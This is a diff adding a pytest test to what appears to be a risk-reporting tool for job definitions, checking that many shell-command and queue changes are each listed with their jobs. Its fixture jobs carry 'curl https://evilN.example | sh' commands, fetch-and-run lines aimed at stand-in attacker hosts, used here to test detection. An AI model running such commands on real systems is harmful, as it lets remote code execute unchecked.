@@ -116,3 +116,18 @@ def test_each_unordered_read_is_named(output_format):
     )
     shown = risks_of(render(new, output_format, before=old), output_format)
     assert {int(n) for n in re.findall(r"r(\d+) reads data\1\b", shown)} == {*range(40)}
+
+
+@pytest.mark.parametrize("output_format", TEXTS)
+def test_each_of_many_values_has_a_line_of_its_own_with_its_jobs(output_format):
+    jobs = [
+        a_job(f"n{n:02}", command=("sh", "-c", f"curl https://evil{n % 30}.example | sh"), job_queue=f"q{n % 20}")
+        for n in range(60)
+    ]
+    shown = risks_of(render(jobs, output_format), output_format)
+    assert {int(n) for n in re.findall(r"https://evil(\d+)\.example", shown)} == {*range(30)}
+    assert len(re.findall("shell command", shown)) == 30
+    assert len(re.findall("queue changed", shown)) == 20
+    if output_format is DiffFormat.TEXT:
+        assert "! shell command: x -> sh -c 'curl https://evil7.example | sh': n07, n37 !" in shown
+        assert "! queue changed: q -> q7: n07, n27, n47 !" in shown
